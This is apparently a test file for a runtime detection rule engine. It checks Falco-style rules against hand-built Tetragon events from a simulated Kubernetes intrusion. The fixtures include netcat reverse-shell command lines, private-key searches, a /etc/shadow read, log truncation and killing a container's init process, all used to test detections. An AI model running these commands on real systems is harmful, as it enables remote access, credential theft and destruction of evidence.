/**
 * The shipped rules (rules/default-rules.yaml) against hand-built Tetragon events: the Death Star
 * incident of SCENARIO.md must raise exactly its five alerts, and each rule must fire on its
 * behaviour and stay quiet on the near misses a real cluster is full of.
 */

import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { PodJson, ProcessJson, TetragonEventJson } from '@/lib/domain/wire-types';
import { createRuleEngine } from './rule-engine';
import { compileRuleFiles } from './rule-loader';
import {
  DEATHSTAR_POD,
  execEvent,
  exitEvent,
  fileArg,
  kprobeEvent,
  pathArg,
  proc,
  SHIM,
  sockArg,
  SYSTEMD,
  TIEFIGHTER_POD,
  XWING_POD,
} from './tetragon-event-fixtures';

const DEFAULT_RULES_PATH = fileURLToPath(new URL('../../../rules/default-rules.yaml', import.meta.url));
const loaded = compileRuleFiles([{ name: 'default-rules.yaml', text: readFileSync(DEFAULT_RULES_PATH, 'utf8') }]);
const engine = createRuleEngine(loaded.rules);

const fired = (...events: TetragonEventJson[]) => events.flatMap((e) => engine.evaluate(e).map((m) => m.rule));

const TERMINAL_SHELL = 'Shell exec into container';
const SERVER_SHELL = 'Shell spawned by server process in container';
const SENSITIVE_READ = 'Read sensitive file';
const LOG_CLEARING = 'Clear log activities';
const NETCAT = 'Netcat remote code execution';
const PRIVATE_KEYS = 'Search for private keys';
const TMP_EXEC = 'Execution from temporary directory';
const K8S_API = 'Contact Kubernetes API server from container';
const KILL_INIT = 'Kill of container init process';

describe('the default rule file', () => {
  it('loads without errors', () => {
    expect(loaded.errors).toEqual([]);
    expect(loaded.rules.map((r) => r.name)).toEqual([
      TERMINAL_SHELL, SERVER_SHELL, SENSITIVE_READ, LOG_CLEARING, NETCAT, PRIVATE_KEYS, TMP_EXEC, K8S_API, KILL_INIT,
    ]);
  });

  it('tags every rule with maturity, scope, a MITRE tactic and a technique id', () => {
    for (const rule of loaded.rules) {
      expect(rule.tags.filter((t) => t.startsWith('maturity_')), rule.name).toHaveLength(1);
      expect(rule.tags.some((t) => t === 'container' || t === 'host'), rule.name).toBe(true);
      expect(rule.tags.some((t) => /^mitre_[a-z_]+$/.test(t)), rule.name).toBe(true);
      expect(rule.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)), rule.name).toBe(true);
      expect(rule.desc.length, rule.name).toBeGreaterThan(20);
    }
  });

  it('offers every rule only the event types it is about', () => {
    for (const rule of loaded.rules) expect(rule.eventTypes, rule.name).not.toBeNull();
  });
});

describe('the Death Star incident', () => {
  const W1 = 'kind-worker';
  const W2 = 'kind-worker2';
  // Background: long-running request loops in tiefighter and xwing (their own exec is not in the stream).
  const tieLoop = proc('/bin/sh', { pod: TIEFIGHTER_POD, vpid: 1, pid: 1000, args: '-c "while true; do curl …; sleep 5; done"', parent: SHIM });
  const xwingLoop = proc('/bin/sh', { pod: XWING_POD, vpid: 1, pid: 1100, args: '-c "while true; do curl …; sleep 5; done"', parent: SHIM });
  const kubelet = proc('/usr/bin/kubelet', { pid: 700, parent: SYSTEMD });
  const background = (i: number): TetragonEventJson[] => {
    const events: TetragonEventJson[] = [];
    for (const [loop, pod, ip] of [[tieLoop, TIEFIGHTER_POD, '10.244.1.17'], [xwingLoop, XWING_POD, '10.244.1.23']] as const) {
      const curl = proc('/usr/bin/curl', { pod, parent: loop, pid: 2000 + i, args: '-s -XPOST deathstar.default.svc.cluster.local/v1/request-landing' });
      const sleep = proc('/bin/sleep', { pod, parent: loop, pid: 2500 + i, args: '5' });
      events.push(
        execEvent(curl, loop, W1),
        kprobeEvent('tcp_connect', curl, loop, [sockArg(ip, 40000 + i, '10.96.12.4', 80)], 'connect', W1),
        kprobeEvent('tcp_close', curl, loop, [sockArg(ip, 40000 + i, '10.96.12.4', 80)], 'connect', W1),
        exitEvent(curl, loop, undefined, W1),
        execEvent(sleep, loop, W1),
        exitEvent(sleep, loop, undefined, W1),
      );
    }
    const probe = proc('/usr/sbin/iptables', { parent: kubelet, pid: 3000 + i, args: '-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle' });
    events.push(
      execEvent(probe, kubelet, W2),
      exitEvent(probe, kubelet, undefined, W2),
      kprobeEvent('tcp_connect', kubelet, SYSTEMD, [sockArg('172.18.0.3', 50000 + i, '10.244.2.31', 80)], 'connect', W2),
      kprobeEvent('tcp_connect', kubelet, SYSTEMD, [sockArg('172.18.0.3', 51000 + i, '172.18.0.2', 6443)], 'connect', W2),
    );
    return events;
  };

  // T+0 kubectl exec -it tiefighter -- /bin/sh
  const shell = proc('/bin/sh', { pod: TIEFIGHTER_POD, vpid: 14, pid: 32450, parent: SHIM });
  // T+6 cat /etc/shadow
  const cat = proc('/bin/cat', { pod: TIEFIGHTER_POD, vpid: 15, pid: 32455, args: '/etc/shadow', parent: shell });
  // T+15 curl -XPUT …/v1/exhaust-port
  const curl = proc('/usr/bin/curl', { pod: TIEFIGHTER_POD, vpid: 16, pid: 32460, args: '-s -XPUT deathstar.default.svc.cluster.local/v1/exhaust-port', parent: shell });
  // T+15.2 in the deathstar pod on kind-worker2
  const shim2 = proc('/usr/bin/containerd-shim-runc-v2', { node: W2, pid: 5100, parent: SYSTEMD });
  const deathstar = proc('/usr/bin/deathstar', { node: W2, pod: DEATHSTAR_POD, vpid: 1, pid: 5200, parent: shim2 });
  const dsShell = proc('/bin/sh', {
    node: W2, pod: DEATHSTAR_POD, vpid: 30, pid: 5300, parent: deathstar,
    args: '-c "truncate -s 0 /var/log/deathstar/access.log; /usr/bin/kill -9 1"',
  });
  const truncate = proc('/usr/bin/truncate', { node: W2, pod: DEATHSTAR_POD, vpid: 31, pid: 5301, args: '-s 0 /var/log/deathstar/access.log', parent: dsShell });
  const kill = proc('/usr/bin/kill', { node: W2, pod: DEATHSTAR_POD, vpid: 32, pid: 5302, args: '-9 1', parent: dsShell });
  const restarted = proc('/usr/bin/deathstar', { node: W2, pod: DEATHSTAR_POD, vpid: 1, pid: 5400, parent: shim2 });

  const incident: TetragonEventJson[] = [
    execEvent(shell, SHIM, W1),
    execEvent(cat, shell, W1),
    kprobeEvent('security_file_permission', cat, shell, [fileArg('/etc/shadow'), { int_arg: 4 }], 'file-monitoring', W1),
    exitEvent(cat, shell, undefined, W1),
    execEvent(curl, shell, W1),
    kprobeEvent('tcp_connect', curl, shell, [sockArg('10.244.1.17', 45200, '10.96.12.4', 80)], 'connect', W1),
    execEvent(dsShell, deathstar, W2),
    execEvent(truncate, dsShell, W2),
    kprobeEvent('security_path_truncate', truncate, dsShell, [pathArg('/var/log/deathstar/access.log')], 'file-monitoring', W2),
    exitEvent(truncate, dsShell, undefined, W2),
    execEvent(kill, dsShell, W2),
    exitEvent(kill, dsShell, undefined, W2),
    exitEvent(deathstar, shim2, 'SIGKILL', W2),
    exitEvent(dsShell, deathstar, 'SIGKILL', W2),
    kprobeEvent('tcp_close', curl, shell, [sockArg('10.244.1.17', 45200, '10.96.12.4', 80)], 'connect', W1),
    exitEvent(curl, shell, undefined, W1),
    execEvent(restarted, shim2, W2),
  ];

  it('raises exactly the five incident alerts, inside background traffic', () => {
    const stream = [...background(1), ...background(2), ...incident, ...background(3)];
    const matches = stream.flatMap((event) => engine.evaluate(event));
    expect(matches.map((m) => m.rule)).toEqual([TERMINAL_SHELL, SENSITIVE_READ, SERVER_SHELL, LOG_CLEARING, KILL_INIT]);
    const [terminal, shadow, server, logs, killInit] = matches;
    expect(terminal!.output).toContain('shell=/bin/sh');
    expect(terminal!.output).toContain('parent=/usr/bin/containerd-shim-runc-v2');
    expect(terminal!.output).toContain('pod=default/tiefighter');
    expect(terminal!.outputFields['proc.exec_id']).toBe(shell.exec_id);
    expect(shadow!.outputFields).toMatchObject({ 'fd.name': '/etc/shadow', 'proc.cmdline': 'cat /etc/shadow', 'k8s.pod.name': 'tiefighter' });
    expect(server!.output).toContain('Shell spawned by deathstar in a container');
    expect(server!.outputFields).toMatchObject({ 'proc.pexepath': '/usr/bin/deathstar', 'k8s.pod.name': 'deathstar-6c94dcc57b-7xk2p' });
    expect(logs!.outputFields).toMatchObject({ 'fd.name': '/var/log/deathstar/access.log', 'evt.hook': 'security_path_truncate' });
    expect(killInit!.outputFields).toMatchObject({ 'proc.cmdline': 'kill -9 1', 'node.name': 'kind-worker2' });
    expect(killInit!.priority).toBe('CRITICAL');
  });

  it('stays quiet on the background alone', () => {
    expect(fired(...background(1), ...background(2))).toEqual([]);
  });
});

// ---------------------------------------------------------------- one rule at a time

const inPod = (binary: string, parent: ProcessJson, args?: string, pod: PodJson = TIEFIGHTER_POD, vpid = 40) =>
  execEvent(proc(binary, { pod, parent, args, vpid }), parent);
const onHost = (binary: string, parent: ProcessJson, args?: string) => execEvent(proc(binary, { parent, args }), parent);
const podProc = (binary: string, args?: string, pod: PodJson = TIEFIGHTER_POD, vpid = 40) => proc(binary, { pod, args, vpid, parent: SHIM });
const runc = proc('/usr/bin/runc', { parent: SHIM });
const kubelet = proc('/usr/bin/kubelet', { parent: SYSTEMD });

describe(TERMINAL_SHELL, () => {
  it('fires on a shell started by the runtime in a container', () => {
    expect(fired(inPod('/bin/sh', SHIM))).toEqual([TERMINAL_SHELL]);
    expect(fired(inPod('/bin/bash', runc))).toEqual([TERMINAL_SHELL]);
    expect(fired(inPod('/usr/bin/zsh', proc('/usr/bin/conmon')))).toEqual([TERMINAL_SHELL]);
  });

  it('does not fire on non-shells, nested shells, entrypoints, exec probes or the host', () => {
    const loop = podProc('/bin/sh', '-c "while true; do curl …; done"', TIEFIGHTER_POD, 1);
    expect(fired(inPod('/usr/bin/curl', loop, '-s http://deathstar'))).toEqual([]);
    expect(fired(inPod('/usr/bin/deathstar', SHIM, undefined, DEATHSTAR_POD, 1))).toEqual([]);
    expect(fired(inPod('/bin/bash', podProc('/bin/sh')))).toEqual([]);
    expect(fired(inPod('/bin/sh', SHIM, '-c ./start.sh', TIEFIGHTER_POD, 1))).toEqual([]);
    const probePod = { ...TIEFIGHTER_POD, container: { ...TIEFIGHTER_POD.container, maybe_exec_probe: true } };
    expect(fired(inPod('/bin/sh', SHIM, '-c "pg_isready"', probePod))).toEqual([]);
    expect(fired(onHost('/bin/sh', SHIM))).toEqual([]);
  });
});

describe(SERVER_SHELL, () => {
  it('fires when a server process starts a shell in a container', () => {
    const server = podProc('/usr/bin/deathstar', undefined, DEATHSTAR_POD, 1);
    expect(fired(inPod('/bin/sh', server, '-c "id"', DEATHSTAR_POD))).toEqual([SERVER_SHELL]);
    expect(fired(inPod('/bin/bash', podProc('/usr/local/bin/node', 'server.js')))).toEqual([SERVER_SHELL]);
  });

  it('does not fire for shells from shells, the runtime, supervisors, scripts, the host, or an unknown parent', () => {
    expect(fired(inPod('/bin/sh', podProc('/bin/bash')))).toEqual([]);
    expect(fired(inPod('/bin/sh', podProc('/sbin/tini', '-- /entrypoint.sh')))).toEqual([]);
    expect(fired(inPod('/bin/sh', podProc('/docker-entrypoint.sh')))).toEqual([]);
    expect(fired(inPod('/bin/sh', SHIM))).toEqual([TERMINAL_SHELL]); // the other rule, not this one
    expect(fired(onHost('/bin/sh', kubelet, '-c "iptables -L"'))).toEqual([]);
    expect(fired(execEvent(proc('/bin/sh', { pod: DEATHSTAR_POD, vpid: 30 })))).toEqual([]);
  });
});

describe(SENSITIVE_READ, () => {
  const cat = podProc('/bin/cat', '/etc/shadow');
  const permission = (p: ProcessJson, path: string, mask?: number) =>
    kprobeEvent('security_file_permission', p, undefined, mask === undefined ? [fileArg(path)] : [fileArg(path), { int_arg: mask }]);

  it('fires on a read of shadow, sudoers and PAM files through the file hooks', () => {
    expect(fired(permission(cat, '/etc/shadow', 4))).toEqual([SENSITIVE_READ]);
    expect(fired(permission(cat, '/etc/shadow'))).toEqual([SENSITIVE_READ]);
    expect(fired(permission(cat, '/etc/sudoers', 4))).toEqual([SENSITIVE_READ]);
    expect(fired(kprobeEvent('fd_install', cat, undefined, [{ int_arg: 3 }, fileArg('/etc/pam.d/common-auth')]))).toEqual([SENSITIVE_READ]);
    expect(fired(kprobeEvent('security_file_open', cat, undefined, [fileArg('/etc/sudoers.d/90-cloud')]))).toEqual([SENSITIVE_READ]);
  });

  it('raises one alert for `cat /etc/shadow`: the exec itself is not an alert', () => {
    expect(fired(execEvent(cat, SHIM), permission(cat, '/etc/shadow', 4))).toEqual([SENSITIVE_READ]);
  });

  it('does not fire on other files, writes, or trusted readers', () => {
    expect(fired(permission(cat, '/etc/hosts', 4))).toEqual([]);
    expect(fired(permission(cat, '/etc/shadowsocks.json', 4))).toEqual([]);
    expect(fired(permission(cat, '/etc/shadow', 2))).toEqual([]);
    expect(fired(permission(proc('/usr/sbin/sshd', { parent: SYSTEMD }), '/etc/shadow', 4))).toEqual([]);
    expect(fired(permission(proc('/usr/bin/sudo', { parent: SYSTEMD }), '/etc/sudoers', 4))).toEqual([]);
    expect(fired(kprobeEvent('security_path_truncate', cat, undefined, [pathArg('/etc/shadow')]))).toEqual([]);
  });
});

describe(LOG_CLEARING, () => {
  const truncate = podProc('/usr/bin/truncate', '-s 0 /var/log/deathstar/access.log', DEATHSTAR_POD);
  const hook = (fn: string, p: ProcessJson, path: string) => kprobeEvent(fn, p, undefined, [pathArg(path)]);

  it('fires on truncating or deleting a file under /var/log', () => {
    expect(fired(hook('security_path_truncate', truncate, '/var/log/deathstar/access.log'))).toEqual([LOG_CLEARING]);
    expect(fired(hook('security_path_unlink', proc('/usr/bin/rm', { parent: SYSTEMD }), '/var/log/auth.log'))).toEqual([LOG_CLEARING]);
    expect(fired(kprobeEvent('do_unlinkat', truncate, undefined, [{ int_arg: -100 }, { string_arg: '/var/log/syslog' }]))).toEqual([LOG_CLEARING]);
  });

  it('raises one alert for `truncate -s 0 /var/log/…`: the exec itself is not an alert', () => {
    expect(fired(execEvent(truncate, SHIM), hook('security_path_truncate', truncate, '/var/log/deathstar/access.log'))).toEqual([LOG_CLEARING]);
  });

  it('does not fire outside /var/log, for log managers, or for container log cleanup', () => {
    expect(fired(hook('security_path_truncate', truncate, '/tmp/x'))).toEqual([]);
    expect(fired(hook('security_path_truncate', truncate, '/var/logs/x'))).toEqual([]);
    expect(fired(hook('security_path_unlink', proc('/usr/sbin/logrotate', { parent: SYSTEMD }), '/var/log/syslog.7.gz'))).toEqual([]);
    expect(fired(hook('security_path_unlink', kubelet, '/var/log/pods/default_tiefighter_1/spaceship/0.log'))).toEqual([]);
    expect(fired(hook('security_path_unlink', kubelet, '/var/log/auth.log'))).toEqual([LOG_CLEARING]);
  });
});

describe(NETCAT, () => {
  it('fires on netcat handing its connection to a program', () => {
    expect(fired(inPod('/usr/bin/nc', SHIM, '-e /bin/sh 10.0.0.5 4444'))).toEqual([NETCAT]);
    const shell = podProc('/bin/sh');
    expect(fired(inPod('/usr/bin/nc', shell, '-lvp 4444 -e /bin/bash'))).toEqual([NETCAT]);
    expect(fired(inPod('/usr/bin/ncat', shell, '--sh-exec "bash -i" 10.0.0.5 4444'))).toEqual([NETCAT]);
    expect(fired(inPod('/bin/nc.traditional', shell, '-c /bin/sh 10.0.0.5 4444'))).toEqual([NETCAT]);
    expect(fired(inPod('/usr/bin/nc', shell, '-e/bin/sh 10.0.0.5 4444'))).toEqual([NETCAT]);
    expect(fired(inPod('/usr/bin/nc', shell, '-nlvpe 4444'))).toEqual([NETCAT]);
    expect(fired(onHost('/usr/bin/ncat', kubelet, '--exec=/bin/bash 10.0.0.5 4444'))).toEqual([NETCAT]);
  });

  it('does not fire on ordinary netcat use or other programs with -e', () => {
    const shell = podProc('/bin/sh');
    expect(fired(inPod('/usr/bin/nc', shell, '-zv deathstar 80'))).toEqual([]);
    expect(fired(inPod('/usr/bin/nc', shell, '-l 8080'))).toEqual([]);
    expect(fired(inPod('/usr/bin/ncat', shell, '--help'))).toEqual([]);
    expect(fired(inPod('/bin/grep', shell, '-e foo /etc/hosts'))).toEqual([]);
  });
});

describe(PRIVATE_KEYS, () => {
  const shell = podProc('/bin/sh');
  it('fires on find and grep looking for private keys', () => {
    expect(fired(inPod('/usr/bin/find', shell, '/ -name id_rsa'))).toEqual([PRIVATE_KEYS]);
    expect(fired(inPod('/usr/bin/find', shell, '/home -name *.pem'))).toEqual([PRIVATE_KEYS]);
    expect(fired(inPod('/usr/bin/find', shell, '/ -path */.ssh/* -type f'))).toEqual([PRIVATE_KEYS]);
    expect(fired(inPod('/bin/grep', shell, '-rl "BEGIN RSA PRIVATE KEY" /'))).toEqual([PRIVATE_KEYS]);
    expect(fired(inPod('/bin/grep', shell, '-ril "begin openssh private key" /home'))).toEqual([PRIVATE_KEYS]);
    expect(fired(onHost('/usr/bin/locate', kubelet, 'id_ed25519'))).toEqual([PRIVATE_KEYS]);
  });

  it('does not fire on other searches or on reading a key', () => {
    expect(fired(inPod('/usr/bin/find', shell, '/var/log -name *.log -mtime +7'))).toEqual([]);
    expect(fired(inPod('/bin/grep', shell, '-r password /etc'))).toEqual([]);
    expect(fired(inPod('/bin/cat', shell, '/root/.ssh/id_rsa'))).toEqual([]);
  });
});

describe(TMP_EXEC, () => {
  it('fires on binaries run from temporary directories', () => {
    const shell = podProc('/bin/sh');
    expect(fired(inPod('/tmp/xmrig', shell, '-o pool:3333'))).toEqual([TMP_EXEC]);
    expect(fired(inPod('/dev/shm/.x/payload', shell))).toEqual([TMP_EXEC]);
    expect(fired(onHost('/var/tmp/kinsing', kubelet))).toEqual([TMP_EXEC]);
  });

  it('does not fire on lookalike paths', () => {
    expect(fired(onHost('/usr/bin/tmpwatch', kubelet))).toEqual([]);
    expect(fired(onHost('/tmpfs/tool', kubelet))).toEqual([]);
  });
});

describe(K8S_API, () => {
  const curl = podProc('/usr/bin/curl', '-sk https://kubernetes.default.svc/api');
  const connect = (p: ProcessJson, daddr: string, dport: number) =>
    kprobeEvent('tcp_connect', p, undefined, [sockArg('10.244.1.17', 45000, daddr, dport)]);
  const kubeSystem = (workload: string): PodJson => ({ ...TIEFIGHTER_POD, namespace: 'kube-system', name: `${workload}-abc`, workload });

  it('fires when an application pod connects to the API server', () => {
    expect(fired(connect(curl, '10.96.0.1', 443))).toEqual([K8S_API]);
    expect(fired(connect(curl, '172.18.0.2', 6443))).toEqual([K8S_API]);
    // A workload named like a controller outside the controller namespaces is not excused.
    expect(fired(connect(proc('/coredns', { pod: { ...TIEFIGHTER_POD, workload: 'coredns' } }), '10.96.0.1', 443))).toEqual([K8S_API]);
  });

  it('does not fire for other destinations, known controllers or the host', () => {
    expect(fired(connect(curl, '10.96.12.4', 80))).toEqual([]);
    expect(fired(connect(curl, '10.96.0.1', 80))).toEqual([]);
    expect(fired(connect(proc('/coredns', { pod: kubeSystem('coredns') }), '10.96.0.1', 443))).toEqual([]);
    expect(fired(connect(proc('/usr/bin/cilium-agent', { pod: kubeSystem('cilium') }), '172.18.0.2', 6443))).toEqual([]);
    expect(fired(connect(kubelet, '172.18.0.2', 6443))).toEqual([]);
    expect(fired(kprobeEvent('tcp_close', curl, undefined, [sockArg('10.244.1.17', 45000, '10.96.0.1', 443)]))).toEqual([]);
  });
});

describe(KILL_INIT, () => {
  const shell = podProc('/bin/sh', undefined, DEATHSTAR_POD);
  it('fires on kill targeting pid 1 in a container', () => {
    expect(fired(inPod('/usr/bin/kill', shell, '-9 1', DEATHSTAR_POD))).toEqual([KILL_INIT]);
    expect(fired(inPod('/bin/kill', shell, '-s KILL 1', DEATHSTAR_POD))).toEqual([KILL_INIT]);
    expect(fired(inPod('/bin/busybox', shell, 'kill -9 1', DEATHSTAR_POD))).toEqual([KILL_INIT]);
  });

  it('does not fire on other pids, other programs, or on the host', () => {
    expect(fired(inPod('/usr/bin/kill', shell, '-9 12', DEATHSTAR_POD))).toEqual([]);
    expect(fired(inPod('/bin/sleep', shell, '1', DEATHSTAR_POD))).toEqual([]);
    expect(fired(inPod('/bin/busybox', shell, 'sleep 1', DEATHSTAR_POD))).toEqual([]);
    expect(fired(onHost('/usr/bin/kill', kubelet, '-9 1'))).toEqual([]);
  });
});
